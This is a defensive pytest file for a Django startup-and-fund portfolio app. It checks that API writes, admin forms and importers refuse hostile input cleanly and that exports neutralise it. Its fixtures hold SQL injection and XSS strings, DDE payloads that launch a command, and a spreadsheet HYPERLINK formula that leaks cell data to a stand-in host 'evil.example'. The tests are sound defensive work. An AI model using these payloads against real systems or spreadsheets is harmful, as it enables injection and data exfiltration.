"""Hostile input (issue 7, "Bad input"): oversized, null bytes, wrong types, huge or negative
numbers, impossible dates, SQL and HTML -- to every API write, the admin's add forms and the
importing. Each answer is a clear 4xx (or a form error) naming the field, never a 500, and a
refusal writes nothing."""

from __future__ import annotations

import contextlib
import datetime as dt
import json
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.test import Client

from portfolio import services
from portfolio.models import (
    ApiToken,
    Commitment,
    Disbursement,
    Distribution,
    FacilityBooking,
    FundingRound,
    Graduation,
    KpiReport,
    Stage,
    Startup,
    ValuationMark,
)
from portfolio.models.history import AUDITED
from portfolio.services import importing, lps
from tests.support import factories
from tests.support.admin import admin_url
from tests.support.clients import login
from tests.support.evidence import attach_evidence
from tests.support.spreadsheets import to_xlsx
from tests.support.worlds import add_lps
from tests.test_import_limits import CRAFTED

#: every audited model but the stages (the data migrations install those)
COUNTED = [model for model in AUDITED if model is not Stage]

SQL = "'; DROP TABLE portfolio_startup; --"
HTML = '<script>alert("x")</script><img src=x onerror=alert(1)>'
#: text a spreadsheet would run (issue 13, finding 1): stored as text, exported inert
FORMULAS = [
    ("formula", '=HYPERLINK("http://evil.example/?x="&A1,"click")'),
    ("dde-at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("dde-minus", "-2+3+cmd|' /C calc'!A0"),
    ("plus", "+1+1"),
    ("tab", "\t=1+1"),
    ("carriage-return", "\r=1+1"),
]

#: (label, value): every one is sent in place of each field of each write
HOSTILE = [
    ("10kB", "量" * 10_000),
    ("null-byte", "abc\x00def"),
    ("only-null", "\x00"),
    ("object", {"a": 1}),
    ("list", [1, 2]),
    ("bool", True),
    ("float-1e30", 1e30),
    ("str-1e30", "1e30"),
    ("40-nines", "9" * 40),
    ("int-40-nines", int("9" * 40)),
    ("negative", -5000),
    ("negative-str", "-0.01"),
    ("nan", "NaN"),
    ("infinity", "Infinity"),
    ("year-9999", "9999-12-31"),
    ("year-10000", "10000-01-01"),
    ("feb-30", "2023-02-30"),
    ("zero-date", "0000-00-00"),
    ("sql", SQL),
    ("html", HTML),
    FORMULAS[0],
    FORMULAS[1],
    ("null", None),
    ("empty", ""),
]


def counts() -> dict[str, int]:
    return {model.__name__: model.objects.count() for model in COUNTED}


def json_keys(body) -> set[str]:
    """Every key of a JSON error body, nested included."""
    keys: set[str] = set()
    if isinstance(body, dict):
        for key, value in body.items():
            keys.add(key)
            keys |= json_keys(value)
    elif isinstance(body, list):
        for item in body:
            keys |= json_keys(item)
    return keys


class Setup:
    def __init__(self):
        self.staff = factories.UserFactory(username="staff", role="incubator-staff")
        self.manager = factories.UserFactory(username="manager", role="fund-managers")
        self.startup = factories.StartupFactory()
        self.investor = factories.InvestorFactory()
        self.fund = factories.FundFactory()
        self.lps = add_lps(self.fund)
        self.free_lp = lps.limited_partner_create(name="待认缴出资人", kind="social_capital")
        # a holding with room left to pay, a round of its own to pay into, cash already in
        self.commitment = services.commitment_create(
            fund=self.fund,
            startup=self.startup,
            amount=10_000_000,
            approved_on=dt.date(2024, 2, 1),
        )
        self.round = factories.FundingRoundFactory(
            startup=self.startup, closed_on=dt.date(2024, 3, 1), lead_investor=self.investor
        )
        services.disbursement_record(
            commitment=self.commitment, amount=1_000_000, paid_on=dt.date(2024, 3, 1)
        )
        self.milestone = factories.MilestoneFactory(startup=self.startup)
        attach_evidence(self.milestone)  # verifying needs an evidence file (issue 15)
        self.open_call = lps.capital_call_create(
            fund=self.fund,
            call_date=dt.date(2024, 6, 1),
            due_date=dt.date(2024, 6, 30),
            amount=1_000_000,
        )
        self.facility = factories.FacilityFactory(name="稀释制冷机（敌意）")
        self.booking = factories.FacilityBookingFactory(
            facility=self.facility,
            startup=self.startup,
            starts_at=dt.datetime(2024, 5, 1, 9, tzinfo=factories.SHANGHAI),
            ends_at=dt.datetime(2024, 5, 2, 9, tzinfo=factories.SHANGHAI),
        )
        self.transfer = factories.TechTransferFactory(startup=self.startup)
        self.lease = factories.SpaceLeaseFactory(startup=self.startup, unit="A-101")
        self.mentor = factories.MentorFactory(name="李导师")
        self.session = factories.MentoringSessionFactory(mentor=self.mentor, startup=self.startup)
        # incubation (issue 16): the startup's agreement, and one without (to record one for)
        self.agreement = factories.IncubationAgreementFactory(startup=self.startup)
        self.unagreed = factories.StartupFactory()
        self.application = factories.PolicyApplicationFactory(startup=self.startup)
        self.introduction = factories.FinancingIntroductionFactory(
            startup=self.startup, investor=self.investor, introduced_on=dt.date(2024, 1, 10)
        )
        _t, staff_key = ApiToken.issue(self.staff)
        _t, manager_key = ApiToken.issue(self.manager)
        self.root = factories.UserFactory(username="root", is_superuser=True)
        _t, root_key = ApiToken.issue(self.root)
        self.clients = {
            "staff": Client(HTTP_AUTHORIZATION=f"Token {staff_key}"),
            "manager": Client(HTTP_AUTHORIZATION=f"Token {manager_key}"),
            "superuser": Client(HTTP_AUTHORIZATION=f"Token {root_key}"),
        }

    def endpoints(self):
        """(name, client, method, url, a valid body)."""
        s = self.startup
        return {
            "facilities": (
                "staff",
                "post",
                "/api/v1/facilities/",
                {
                    "name": "低温恒温器",
                    "kind": "cryostat",
                    "owner": "BAQIS",
                    "booking_unit": "day",
                    "required_training": "低温安全培训",
                    "is_illustrative": False,
                },
            ),
            "facility-bookings": (
                "staff",
                "post",
                "/api/v1/facility-bookings/",
                {
                    "facility": self.facility.pk,
                    "startup": s.pk,
                    "starts_at": "2024-06-01T09:00:00+08:00",
                    "ends_at": "2024-06-02T09:00:00+08:00",
                    "units": "1",
                    "helium_litres": "35.5",
                    "note": "一次降温",
                },
            ),
            "tech-transfers": (
                "staff",
                "post",
                "/api/v1/tech-transfers/",
                {
                    "startup": s.pk,
                    "institution": self.transfer.institution_id,
                    "team": "张三",
                    "title": "量子纠缠源",
                    "mode": "licence",
                    "contract_on": "2024-03-01",
                    "consideration": "1000",
                    "equity_to_institution_pct": "10",
                    "equity_to_researchers_pct": "20",
                    "ip_items": [{"kind": "invention", "application_number": "201810123456.5"}],
                    "note": "许可",
                },
            ),
            "tech-transfers-patch": (
                "staff",
                "patch",
                f"/api/v1/tech-transfers/{self.transfer.pk}/",
                {
                    "title": "改名",
                    "ip_items": [{"kind": "design", "application_number": "201930001234.1"}],
                    "note": "改",
                },
            ),
            "space-leases": (
                "staff",
                "post",
                "/api/v1/space-leases/",
                {
                    "startup": s.pk,
                    "unit": "B-201",
                    "kind": "lab",
                    "area_m2": "80.5",
                    "is_public_service_area": False,
                    "starts_on": "2024-06-01",
                    "ends_on": "2025-05-31",
                    "list_rent": "8000",
                    "actual_rent": "6000",
                    "subsidy": "500",
                    "subsidy_source": "海淀区",
                    "note": "新租",
                },
            ),
            "space-leases-patch": (
                "staff",
                "patch",
                f"/api/v1/space-leases/{self.lease.pk}/",
                {
                    "unit": "A-102",
                    "starts_on": "2025-04-01",
                    "ends_on": "2026-03-31",
                    "actual_rent": "4000",
                    "note": "续租",
                },
            ),
            "mentors": (
                "staff",
                "post",
                "/api/v1/mentors/",
                {
                    "name": "王导师",
                    "kind": "investor",
                    "appointed_by": "海淀区科委",
                    "appointed_on": "2023-01-01",
                    "until": "2026-12-31",
                    "is_full_time": False,
                },
            ),
            "mentors-patch": (
                "staff",
                "patch",
                f"/api/v1/mentors/{self.mentor.pk}/",
                {"name": "改名", "appointed_by": "孵化器", "until": "2027-12-31"},
            ),
            "mentoring-sessions": (
                "staff",
                "post",
                "/api/v1/mentoring-sessions/",
                {
                    "mentor": self.mentor.pk,
                    "startup": s.pk,
                    "held_on": "2024-06-01",
                    "hours": "2.5",
                    "topic": "融资辅导",
                    "follow_ups": "下次路演",
                },
            ),
            "mentoring-sessions-patch": (
                "staff",
                "patch",
                f"/api/v1/mentoring-sessions/{self.session.pk}/",
                {"held_on": "2024-06-02", "hours": "3", "topic": "改", "follow_ups": "改"},
            ),
            "facility-bookings-patch": (
                "staff",
                "patch",
                f"/api/v1/facility-bookings/{self.booking.pk}/",
                {
                    "starts_at": "2024-05-03T09:00",
                    "ends_at": "2024-05-04T09:00",
                    "units": "2",
                    "helium_litres": "1",
                    "note": "改期",
                },
            ),
            "startups-post": (
                "staff",
                "post",
                "/api/v1/startups/",
                {
                    "name": "新公司",
                    "tech_area": "sensing",
                    "stage": "concept",
                    "trl": 3,
                    "admitted_on": "2023-01-02",
                    "founded_on": "2022-01-02",
                    "headcount": 5,
                    "website": "https://example.com",
                    "description": "量子",
                },
            ),
            "startups-patch": (
                "staff",
                "patch",
                f"/api/v1/startups/{s.pk}/",
                {"name": "改名", "headcount": 7, "founded_on": "2020-01-01", "website": ""},
            ),
            "advance": (
                "staff",
                "post",
                f"/api/v1/startups/{s.pk}/advance/",
                {"to_stage": "prototype", "on": "2024-05-01", "trl": 5, "note": "x"},
            ),
            "funding-rounds": (
                "staff",
                "post",
                "/api/v1/funding-rounds/",
                {
                    "startup": s.pk,
                    "round_type": "angel",
                    "closed_on": "2024-07-01",
                    "amount": "8000000",
                    "pre_money_valuation": "20000000",
                    "lead_investor": self.investor.pk,
                    "announced_as": "800万元",
                    "participants": [{"investor": self.investor.pk, "amount": "5000000"}],
                },
            ),
            "commitments": (
                "manager",
                "post",
                "/api/v1/commitments/",
                {
                    "fund": self.fund.pk,
                    "startup": s.pk,
                    "amount": "1000000",
                    "approved_on": "2024-08-01",
                    "note": "n",
                },
            ),
            "milestones": (
                "staff",
                "post",
                "/api/v1/milestones/",
                {
                    "startup": s.pk,
                    "kind": "patent_granted",
                    "achieved_on": "2024-06-01",
                    "title": "专利",
                },
            ),
            "limited-partners": (
                "manager",
                "post",
                "/api/v1/limited-partners/",
                {"name": "新出资人", "kind": "social_capital", "credit_code": "", "note": "n"},
            ),
            "lp-commitments": (
                "manager",
                "post",
                "/api/v1/lp-commitments/",
                {
                    "fund": self.fund.pk,
                    "limited_partner": self.free_lp.pk,
                    "amount": "1000000",
                    "committed_on": "2024-01-05",
                },
            ),
            "capital-calls": (
                "manager",
                "post",
                "/api/v1/capital-calls/",
                {
                    "fund": self.fund.pk,
                    "call_date": "2024-07-01",
                    "due_date": "2024-07-31",
                    "amount": "1000000",
                    "investments": "900000",
                    "management_fees": "100000",
                    "expenses": "0",
                    "note": "n",
                },
            ),
            "capital-call-payments": (
                "manager",
                "post",
                f"/api/v1/capital-calls/{self.open_call.pk}/payments/",
                {
                    "limited_partner": self.lps["government"].pk,
                    "paid_on": "2024-06-10",
                    "amount": "1000",
                },
            ),
            "fund-expenses": (
                "manager",
                "post",
                "/api/v1/fund-expenses/",
                {
                    "fund": self.fund.pk,
                    "incurred_on": "2024-05-01",
                    "amount": "1000",
                    "category": "legal",
                    "note": "n",
                },
            ),
            "lp-distributions": (
                "manager",
                "post",
                "/api/v1/lp-distributions/",
                {"fund": self.fund.pk, "paid_on": "2024-12-01", "amount": "1000", "note": "n"},
            ),
            "funds-patch": (
                "superuser",
                "patch",
                f"/api/v1/funds/{self.fund.pk}/",
                {
                    "name": "新基金名",
                    "size": "300000000",
                    "vintage_year": 2025,
                    "investment_period_end": "2030-12-31",
                    "max_single_company_pct": "25",
                    "min_local_pct": "40",
                    "target_tech_areas": ["computing"],
                    "local_region": "北京市",
                },
            ),
            "funds-post": (
                "superuser",
                "post",
                "/api/v1/funds/",
                {
                    "name": "新设基金",
                    "name_en": "New Fund",
                    "manager": "某管理人",
                    "size": "300000000",
                    "vintage_year": 2025,
                    "investment_period_end": "2030-12-31",
                    "max_single_company_pct": "25",
                    "min_target_sector_pct": "50",
                    "target_tech_areas": ["computing"],
                    "min_local_pct": "40",
                    "local_region": "北京市",
                    "management_fee_pct": "2",
                    "fee_basis": "paid_in",
                    "hurdle_pct": "8",
                    "hurdle_kind": "compound",
                    "catch_up_pct": "100",
                    "carry_pct": "20",
                    "waterfall": "european",
                    "is_illustrative": False,
                    "illustrative_note": "n",
                },
            ),
            "tranches": (
                "manager",
                "post",
                f"/api/v1/commitments/{self.commitment.pk}/tranches/",
                {
                    "amount": "1000",
                    "milestone": self.milestone.pk,
                    "due_by": "2025-01-01",
                    "note": "n",
                },
            ),
            "milestone-verify": (
                "staff",
                "post",
                f"/api/v1/milestones/{self.milestone.pk}/verify/",
                {"verified_on": "2024-06-01"},
            ),
            "disbursements": (
                "manager",
                "post",
                "/api/v1/disbursements/",
                {
                    "commitment": self.commitment.pk,
                    "paid_on": "2024-08-01",
                    "amount": "1000",
                    "round": self.round.pk,
                    "tranche": None,
                    "note": "n",
                },
            ),
            "valuation-marks": (
                "manager",
                "post",
                "/api/v1/valuation-marks/",
                {
                    "fund": self.fund.pk,
                    "startup": s.pk,
                    "as_of": "2024-06-30",
                    "fair_value": "8000000",
                    "method": "recent_round",
                    "note": "n",
                },
            ),
            "distributions": (
                "manager",
                "post",
                "/api/v1/distributions/",
                {
                    "fund": self.fund.pk,
                    "startup": s.pk,
                    "paid_on": "2024-09-01",
                    "amount": "1000",
                    "kind": "dividend",
                    "note": "n",
                },
            ),
            "incubation-agreements": (
                "staff",
                "post",
                "/api/v1/incubation-agreements/",
                {
                    "startup": self.unagreed.pk,
                    "signed_on": "2021-02-20",
                    "starts_on": "2021-03-01",
                    "ends_on": "2025-02-28",
                    "note": "孵化协议",
                },
            ),
            "incubation-agreements-patch": (
                "staff",
                "patch",
                f"/api/v1/incubation-agreements/{self.agreement.pk}/",
                {"signed_on": "2021-02-21", "starts_on": "2021-03-02", "note": "续签"},
            ),
            "policy-applications": (
                "staff",
                "post",
                "/api/v1/policy-applications/",
                {
                    "startup": s.pk,
                    "programme": "grant",
                    "programme_name": "海淀区补贴",
                    "policy_code": "海科发〔2024〕1号",
                    "level": "district",
                    "applied_on": "2024-03-01",
                    "status": "approved",
                    "certificate_number": "C-1",
                    "valid_from": "2024-04-01",
                    "valid_to": "2025-03-31",
                    "amount_granted": "100000",
                    "amount_received": "50000",
                    "note": "n",
                },
            ),
            "policy-applications-patch": (
                "staff",
                "patch",
                f"/api/v1/policy-applications/{self.application.pk}/",
                {"status": "rejected", "note": "驳回"},
            ),
            # the startup's round (2024-03-01) is led by the investor introduced
            "financing-introductions": (
                "staff",
                "post",
                "/api/v1/financing-introductions/",
                {
                    "startup": s.pk,
                    "investor": self.investor.pk,
                    "introduced_on": "2024-02-01",
                    "channel": "event",
                    "outcome": "invested",
                    "funding_round": self.round.pk,
                    "note": "n",
                },
            ),
            "financing-introductions-patch": (
                "staff",
                "patch",
                f"/api/v1/financing-introductions/{self.introduction.pk}/",
                {"outcome": "declined", "note": "婉拒"},
            ),
            # the startup's A round (30 million yuan, 2024-03-01) supports vc_over_5m
            "graduate": (
                "staff",
                "post",
                f"/api/v1/startups/{s.pk}/graduate/",
                {"on": "2025-06-30", "basis": ["vc_over_5m"], "note": "投资协议"},
            ),
            "kpi-reports": (
                "staff",
                "post",
                "/api/v1/kpi-reports/",
                {
                    "startup": s.pk,
                    "year": 2024,
                    "quarter": 2,
                    "revenue": "1.00",
                    "headcount": 3,
                    "cash": "100",
                    "runway_months": "12.5",
                },
            ),
        }


ENDPOINTS = [
    "policy-applications",
    "policy-applications-patch",
    "financing-introductions",
    "financing-introductions-patch",
    "incubation-agreements",
    "incubation-agreements-patch",
    "graduate",
    "tech-transfers",
    "tech-transfers-patch",
    "space-leases",
    "space-leases-patch",
    "mentors",
    "mentors-patch",
    "mentoring-sessions",
    "mentoring-sessions-patch",
    "facilities",
    "facility-bookings",
    "facility-bookings-patch",
    "startups-post",
    "startups-patch",
    "advance",
    "funding-rounds",
    "commitments",
    "milestones",
    "kpi-reports",
    "limited-partners",
    "lp-commitments",
    "capital-calls",
    "capital-call-payments",
    "fund-expenses",
    "lp-distributions",
    "funds-patch",
    "funds-post",
    "disbursements",
    "tranches",
    "milestone-verify",
    "valuation-marks",
    "distributions",
]


def send(client, method, url, body, raw=None):
    data = raw if raw is not None else json.dumps(body)
    return getattr(client, method)(url, data, content_type="application/json")


@contextlib.contextmanager
def undone():
    """Each attempt starts from the same rows: an accepted one is rolled back afterwards."""
    with transaction.atomic():
        yield
        transaction.set_rollback(True)


def check_answer(response, field: str | None, before: dict, where: str):
    assert response.status_code < 500, (where, response.status_code, response.content[:300])
    if response.status_code >= 400:
        assert response.status_code in (400, 409, 413, 415), (where, response.status_code)
        body = response.json()
        if field is not None:
            assert field in json_keys(body), (where, body)
        assert counts() == before, where
        return False
    return True


@pytest.fixture
def no_rate_limits(settings):
    """Hundreds of writes from one token in a few seconds (a fund has 20 fields): lift the
    token's burst limit, or the 429 would answer for the app."""
    settings.REST_FRAMEWORK = {
        **settings.REST_FRAMEWORK,
        "DEFAULT_THROTTLE_RATES": {"exports": "100000/minute", "token-burst": "100000/minute"},
    }


@pytest.mark.parametrize("endpoint", ENDPOINTS)
def test_api_writes_refuse_hostile_values_by_field(db, endpoint, no_rate_limits):
    setup = Setup()
    who, method, url, valid = setup.endpoints()[endpoint]
    client = setup.clients[who]
    for field in valid:
        for label, value in HOSTILE:
            body = dict(valid, **{field: value})
            if endpoint in ("startups-post",) and field == "name" and label in ("sql", "html"):
                body["credit_code"] = ""
            before = counts()
            with undone():
                response = send(client, method, url, body)
                accepted = check_answer(response, field, before, f"{endpoint} {field}={label}")
                if accepted and endpoint == "graduate" and label in ("sql", "html"):
                    # the answer is the startup: the note is kept on the graduation, as sent
                    assert Graduation.objects.get().note == value
            if endpoint == "graduate":
                continue
            if accepted and isinstance(value, str) and label in ("sql", "html"):
                # Text is text: stored and given back exactly, never interpreted.
                assert value in response.content.decode("unicode_escape", "replace") or (
                    value in json.dumps(response.json(), ensure_ascii=False)
                )
    # Participants: hostile values inside the nested rows, and a hostile list itself.
    if endpoint == "funding-rounds":
        for label, value in HOSTILE:
            before = counts()
            for body in (
                dict(valid, participants=[{"investor": setup.investor.pk, "amount": value}]),
                dict(valid, participants=[{"investor": value}]),
                dict(valid, participants=value),
            ):
                with undone():
                    response = send(client, method, url, body)
                    check_answer(response, "participants", before, f"participants {label}")


#: the list whose export shows what each write stored
EXPORTED_BY = {
    "startups-post": "/api/v1/startups/",
    "startups-patch": "/api/v1/startups/",
    "advance": "/api/v1/stage-transitions/",
    "funding-rounds": "/api/v1/funding-rounds/",
    "commitments": "/api/v1/commitments/",
    "milestones": "/api/v1/milestones/",
    "disbursements": "/api/v1/disbursements/",
    "valuation-marks": "/api/v1/valuation-marks/",
    "distributions": "/api/v1/distributions/",
    "facilities": "/api/v1/facilities/",
    "facility-bookings": "/api/v1/facility-bookings/",
    "tech-transfers": "/api/v1/tech-transfers/",
    "space-leases": "/api/v1/space-leases/",
    "mentors": "/api/v1/mentors/",
    "mentoring-sessions": "/api/v1/mentoring-sessions/",
    "policy-applications": "/api/v1/policy-applications/",
    "financing-introductions": "/api/v1/financing-introductions/",
}
FORMULA_FIELDS = {
    "name",
    "name_en",
    "description",
    "note",
    "announced_as",
    "title",
    "founders",
    "subsidy_source",
    "programme_name",
    "policy_code",
    "certificate_number",
    "appointed_by",
    "topic",
    "follow_ups",
}


@pytest.mark.parametrize("endpoint", list(EXPORTED_BY))
def test_formula_text_written_through_the_api_is_exported_inert(db, endpoint):
    """Formula text is valid text: stored as sent, and every export of it is inert (R10)."""
    from tests.api.test_formula_injection import csv_cells, sheet_xml

    setup = Setup()
    who, method, url, valid = setup.endpoints()[endpoint]
    client = setup.clients[who]
    fields = [field for field in valid if field in FORMULA_FIELDS]
    stored = []
    for number, (label, value) in enumerate(FORMULAS):
        body = dict(valid, **{field: value for field in fields})
        if endpoint in ("startups-post", "facilities"):  # names are unique
            body["name"] = value + str(number)
        if endpoint == "advance":
            body["on"] = f"2024-05-0{number + 1}"
            body["to_stage"] = ["prototype", "pilot"][number % 2]
            body["trl"] = [5, 6][number % 2]  # inside each stage's TRL range
        if endpoint == "commitments":
            body["approved_on"] = f"2024-08-0{number + 1}"
        if endpoint == "valuation-marks":
            body["as_of"] = f"2024-06-0{number + 1}"  # a mark on a marked day replaces it
        if endpoint == "facility-bookings":  # one facility: a day each, never overlapping
            body["starts_at"] = f"2024-07-0{number + 1}T09:00"
            body["ends_at"] = f"2024-07-0{number + 1}T18:00"
        if endpoint == "financing-introductions":  # one introduction a day
            body["introduced_on"] = f"2024-02-0{number + 1}"
        if endpoint == "space-leases":  # one unit each, never overlapping
            body["unit"] = f"F-{number}"
        response = send(client, method, url, body)
        assert response.status_code in (200, 201), (endpoint, label, response.content[:300])
        # as stored: DRF trims the whitespace around text ("\t=1+1" is kept as "=1+1")
        stored.append(body[fields[0]].strip())
    export = EXPORTED_BY[endpoint]
    cells = [
        value
        for row in csv_cells(b"".join(client.get(export, {"format": "csv"}).streaming_content))
        for value in row
    ]
    assert not [value for value in cells if value.startswith(("=", "+", "@", "\t", "\r"))]
    assert not [value for value in cells if value.startswith("-") and not value[1:2].isdigit()]
    kept = stored[-1:] if endpoint == "startups-patch" else stored  # a PATCH replaces
    assert {"'" + value for value in kept} <= set(cells), endpoint
    xlsx = b"".join(client.get(export, {"format": "xlsx"}).streaming_content)
    assert "<f>" not in sheet_xml(xlsx), endpoint


@pytest.mark.parametrize("endpoint", ENDPOINTS)
@pytest.mark.parametrize(
    "raw",
    ["{", "[]", "[1, 2]", "null", '"text"', "1e999", '{"name": "\\ud800"}', "\x00", ""],
)
def test_api_writes_refuse_malformed_bodies(db, endpoint, raw):
    setup = Setup()
    who, method, url, _valid = setup.endpoints()[endpoint]
    before = counts()
    response = send(setup.clients[who], method, url, None, raw=raw)
    if endpoint.endswith("-patch") and raw in ("", "null"):
        # An empty PATCH changes nothing and answers the row.
        assert response.status_code in (200, 400), response.status_code
        assert counts() == before
        return
    check_answer(response, None, before, f"{endpoint} raw={raw!r}")
    assert response.status_code >= 400, (endpoint, raw)


def test_api_refuses_a_non_json_content_type(db):
    setup = Setup()
    response = setup.clients["staff"].post(
        "/api/v1/startups/", b"\x89PNG\r\n\x1a\n\x00\x00", content_type="image/png"
    )
    assert response.status_code == 415


# --- the admin's add forms -----------------------------------------------------------------

ADMIN_TEXT = [
    ("10kB", "量" * 10_000),
    ("null-byte", "abc\x00def"),
    ("40-nines", "9" * 40),
    ("1e30", "1e30"),
    ("negative", "-5000"),
    ("nan", "NaN"),
    ("year-9999", "9999-12-31"),
    ("feb-30", "2023-02-30"),
    ("garbage-date", "31/31/31"),
    ("sql", SQL),
    ("html", HTML),
    ("bad-id", "999999999999999999999"),
    ("not-an-id", "abc"),
]


TEXT_FIELDS = {"name", "announced_as", "note"}
#: rules between two fields name the other one: founded after admission is refused on
#: admitted_on, by the model's own check, before the services' "not in the future"
CROSS_FIELD = {
    "founded_on": {"admitted_on"},
    # a booking's start after its end is refused on ends_at (the model's own check)
    "starts_at_0": {"starts_at", "ends_at"},
    "starts_at_1": {"starts_at", "ends_at"},
    "ends_at_0": {"ends_at"},
    "ends_at_1": {"ends_at"},
}


def admin_forms(setup):
    from tests.support.factories import stage

    return {
        Startup: (
            setup.staff,
            {
                "name": "新公司",
                "tech_area": "sensing",
                "stage": stage("concept").pk,
                "trl": "3",
                "entered_on": "2023-01-15",
                "admitted_on": "2023-01-15",
                "founded_on": "2022-01-01",
                "headcount": "4",
            },
        ),
        FundingRound: (
            setup.staff,
            {
                "startup": setup.startup.pk,
                "round_type": "a",
                "closed_on": "2024-05-20",
                "amount": "50000000",
                "amount_precision": "exact",
                "pre_money_valuation": "200000000",
                "lead_investor": setup.investor.pk,
                "announced_as": "5000万元",
                "participations-TOTAL_FORMS": "1",
                "participations-INITIAL_FORMS": "0",
                "participations-MIN_NUM_FORMS": "0",
                "participations-MAX_NUM_FORMS": "1000",
                "participations-0-investor": setup.investor.pk,
                "participations-0-amount": "1000000",
            },
        ),
        FacilityBooking: (
            setup.staff,
            {
                "facility": setup.facility.pk,
                "startup": setup.startup.pk,
                "starts_at_0": "2024-06-01",
                "starts_at_1": "09:00",
                "ends_at_0": "2024-06-02",
                "ends_at_1": "09:00",
                "units": "1",
                "helium_litres": "2",
                "note": "n",
            },
        ),
        Commitment: (
            setup.manager,
            {
                "fund": setup.fund.pk,
                "startup": setup.startup.pk,
                "amount": "1000000",
                "approved_on": "2024-06-01",
                "note": "n",
            },
        ),
        Disbursement: (
            setup.manager,
            {
                "commitment": setup.commitment.pk,
                "funding_round": setup.round.pk,
                "paid_on": "2024-08-01",
                "amount": "1000",
                "note": "n",
            },
        ),
        ValuationMark: (
            setup.manager,
            {
                "fund": setup.fund.pk,
                "startup": setup.startup.pk,
                "as_of": "2024-06-30",
                "fair_value": "8000000",
                "method": "recent_round",
                "note": "n",
            },
        ),
        Distribution: (
            setup.manager,
            {
                "fund": setup.fund.pk,
                "startup": setup.startup.pk,
                "paid_on": "2024-09-01",
                "amount": "1000",
                "kind": "dividend",
                "note": "n",
            },
        ),
    }


def form_errors(response) -> set[str]:
    errors = set(response.context["adminform"].form.errors)
    for formset in response.context.get("inline_admin_formsets", []):
        for form_errors in formset.formset.errors:
            errors |= {f"{formset.formset.prefix}-{key}" for key in form_errors}
        if formset.formset.non_form_errors():
            errors.add(formset.formset.prefix)
    return errors


@pytest.mark.parametrize(
    "model",
    [
        Startup,
        FundingRound,
        FacilityBooking,
        Commitment,
        Disbursement,
        ValuationMark,
        Distribution,
    ],
    ids=lambda m: m.__name__,
)
def test_admin_add_forms_refuse_hostile_values_by_field(db, model):
    setup = Setup()
    user, valid = admin_forms(setup)[model]
    client = login(user)
    url = admin_url(model, "add")
    for field in valid:
        if field.endswith(("TOTAL_FORMS", "INITIAL_FORMS", "MIN_NUM_FORMS", "MAX_NUM_FORMS")):
            continue
        for label, value in ADMIN_TEXT:
            before = counts()
            with undone():
                response = client.post(url, dict(valid, **{field: value}))
            where = f"{model.__name__} {field}={label}"
            assert response.status_code in (200, 302), (where, response.status_code)
            if response.status_code == 200:
                errors = form_errors(response)
                assert errors, where
                names = {field.split("-")[-1], *CROSS_FIELD.get(field, ())}
                assert any(n in error for n in names for error in errors), (where, errors)
                assert counts() == before, where
            else:
                # Accepted: only a text field takes such a value, as text.
                assert field in TEXT_FIELDS, where


# --- the importers ----------------------------------------------------------------------------


STARTUP_HEADER = [column.name for column in importing.StartupImporter.columns]
GOOD_ROW = ["导入公司", "", "", "sensing", "", "lab", "2", "", "", ""]

BROKEN_FILES = {
    "truncated-xlsx": ("s.xlsx", to_xlsx([STARTUP_HEADER, GOOD_ROW])[:300]),
    "garbage-xlsx": ("s.xlsx", bytes(range(256)) * 20),
    "garbage-csv": ("s.csv", bytes(range(256)) * 20),
    "gbk-csv": ("s.csv", "\n".join([",".join(STARTUP_HEADER), ",".join(GOOD_ROW)]).encode("gbk")),
    "empty-csv": ("s.csv", b""),
    "empty-xlsx": ("s.xlsx", b""),
    "header-only-csv": ("s.csv", ",".join(STARTUP_HEADER).encode()),
    "header-only-xlsx": ("s.xlsx", to_xlsx([STARTUP_HEADER])),
    "zip-not-xlsx": ("s.xlsx", b"PK\x03\x04" + b"\x00" * 100),
    "csv-null-bytes": ("s.csv", b"name,tech_area,stage,trl\n\x00\x00,sensing,lab,2\n"),
    "csv-10kB-cell": (
        "s.csv",
        ("name,tech_area,stage,trl\n" + "量" * 10_000 + ",sensing,lab,2\n").encode(),
    ),
    "csv-huge-field": (
        "s.csv",
        b"name,tech_area,stage,trl\n" + b"x" * 200_000 + b",sensing,lab,2\n",
    ),
    "csv-unbalanced-quote": ("s.csv", b'name,tech_area,stage,trl\n"abc,sensing,lab,2\n'),
    "csv-bad-values": (
        "s.csv",
        (
            "name,tech_area,stage,trl,founded_on,admitted_on\n"
            f"{SQL},quantum,moon,1e30,9999-12-31,2023-02-30\n"
            f"{HTML},sensing,lab,{'9' * 40},0000-00-00,-1\n"
        ).encode(),
    ),
    "wrong-extension": ("s.pdf", b"%PDF-1.4"),
    # issue 13: what claims to be small but is not (tests/test_import_limits.py bounds them)
    **{
        f"xlsx-{name}": ("s.xlsx", CRAFTED[name][0])
        for name in ("dimension-bomb", "billion-laughs", "external-entity", "broken-xml")
    },
}


@pytest.mark.parametrize("name", BROKEN_FILES)
def test_importers_refuse_broken_files(db, name):
    filename, content = BROKEN_FILES[name]
    staff = factories.UserFactory(username="staff", role="incubator-staff")
    for kind in importing.IMPORTERS:
        before = counts()
        result = importing.run_import(kind, content, filename, dry_run=False, user=staff)
        assert result.errors, (name, kind)
        assert all(str(error.message) for error in result.errors)
        assert counts() == before, (name, kind)

    # The same file through the admin's upload: a page listing the problems, never a 500.
    before = counts()
    response = login(staff).post(
        admin_url(Startup, "import"), {"file": SimpleUploadedFile(filename, content)}
    )
    assert response.status_code in (200, 400), response.status_code
    assert not response.context["token"]
    assert counts() == before


def test_importer_bad_values_are_named_by_row_and_column(db):
    _filename, content = BROKEN_FILES["csv-bad-values"]
    result = importing.run_import("startups", content, "s.csv", dry_run=False)
    named = {(error.row, error.column) for error in result.errors}
    assert {(2, "tech_area"), (2, "stage"), (2, "trl"), (3, "trl")} <= named
    assert not Startup.objects.exists()


def test_kpi_and_round_importers_refuse_hostile_numbers(db):
    startup = factories.StartupFactory()
    rows = [
        ["startup", "year", "quarter", "revenue", "cash", "runway_months"],
        [startup.name, "9" * 40, "1", "1e30", "-5", "NaN"],
        [startup.name, "2024", "99", "9" * 40, "1", "1e400"],
    ]
    result = importing.run_import("kpi", to_xlsx(rows), "k.xlsx", dry_run=False)
    named = {(error.row, error.column) for error in result.errors}
    assert {(2, "revenue"), (2, "cash"), (2, "runway_months"), (3, "revenue")} <= named
    only_numbers = [
        ["startup", "year", "quarter"],
        [startup.name, "9" * 40, "1"],
        [startup.name, "2024", "99"],
        [startup.name, "-2024", "-1"],
    ]
    result = importing.run_import("kpi", to_xlsx(only_numbers), "k.xlsx", dry_run=False)
    named = {(error.row, error.column) for error in result.errors}
